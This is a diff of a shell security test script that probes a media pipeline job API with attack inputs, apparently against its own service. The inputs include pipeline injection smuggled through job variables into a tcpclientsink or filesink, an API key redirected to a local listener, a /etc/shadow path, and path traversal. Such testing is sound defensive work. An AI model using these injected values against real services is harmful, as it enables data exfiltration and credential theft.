@@ -100,7 +100,7 @@ forget_jobs() {
 http_attacks() {
   # A job that stays queued or running for the length of these attacks.
   local job=""
-  submit '{"graph":"live-shot-detect","variables":{"frames":90000}}'
+  submit '{"graph":"live-shot-detect","variables":{"duration_s":3600}}'
   if [[ $SUBMITTED == 201 ]]; then job=${PROBE_JOBS[-1]}; fi
   if [[ -z $job ]]; then
     call GET '/api/v1/jobs?state=running&limit=1' >/dev/null
@@ -338,8 +338,8 @@ graph_attacks() {
   start_listener
   local P=$LISTEN_PORT
   graph_attack "pipeline injection through a variable" \
-    '{"graph":"live-shot-detect","variables":{"frames":"10"}}' \
-    "{\"graph\":\"live-shot-detect\",\"variables\":{\"frames\":\"10 ! fakesink videotestsrc num-buffers=10 ! tcpclientsink host=127.0.0.1 port=$P\"}}"
+    '{"graph":"live-shot-detect","variables":{"duration_s":"2"}}' \
+    "{\"graph\":\"live-shot-detect\",\"variables\":{\"duration_s\":\"10 ! fakesink videotestsrc num-buffers=10 ! tcpclientsink host=127.0.0.1 port=$P\"}}"
   graph_attack "API key sent to another base URL" \
     '{"graph":"short-video-openai"}' \
     "{\"graph\":\"short-video-openai\",\"variables\":{\"openai_base_url\":\"http://127.0.0.1:$P\"}}"
@@ -352,9 +352,12 @@ graph_attacks() {
   graph_attack "a job sets a path the graph keeps for its runner" \
     '{"graph":"shot-detect"}' \
     '{"graph":"shot-detect","variables":{"video":"/etc/shadow"}}'
+  graph_attack "a job points the live source at another host" \
+    '{"graph":"live-hls","variables":{"duration_s":"1"}}' \
+    "{\"graph\":\"live-hls\",\"variables\":{\"source\":\"rtmp://127.0.0.1:$P/live\",\"kind\":\"rtmp\"}}"
   graph_attack "pipeline syntax through a number" \
-    '{"graph":"live-shot-detect","variables":{"frames":"10"}}' \
-    '{"graph":"live-shot-detect","variables":{"frames":"1e3 ! filesink location=/tmp/x"}}'
+    '{"graph":"live-shot-detect","variables":{"duration_s":"2"}}' \
+    '{"graph":"live-shot-detect","variables":{"duration_s":"1e3 ! filesink location=/tmp/x"}}'
   existence_oracle
   graph_attack "voice path traversal" \
     '{"graph":"short-video","variables":{"voice":"en"}}' \
